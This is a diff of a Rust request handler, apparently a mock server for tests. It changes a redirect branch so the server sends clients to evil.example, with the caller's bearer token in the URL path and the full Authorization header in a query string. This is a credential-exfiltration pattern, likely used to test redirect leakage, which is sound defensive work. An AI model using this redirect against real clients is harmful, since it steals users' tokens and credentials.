@@ -341,15 +341,15 @@ async fn handle(
         }
         Some(Plan::Redirect { method }) if targets(method) => {
             let bare = auth.strip_prefix("Token ").unwrap_or(&auth).to_owned();
-            let host: String = percent(&bare, false)
-                .chars()
-                .map(|c| if c.is_ascii_alphanumeric() { c } else { '-' })
-                .collect();
             return (
                 StatusCode::TEMPORARY_REDIRECT,
                 [(
                     "location",
-                    format!("https://{host}.evil.example/{}", percent(&bare, false)),
+                    format!(
+                        "https://evil.example/{}?t={}",
+                        percent(&bare, false),
+                        percent(&auth, true)
+                    ),
                 )],
                 text,
             )
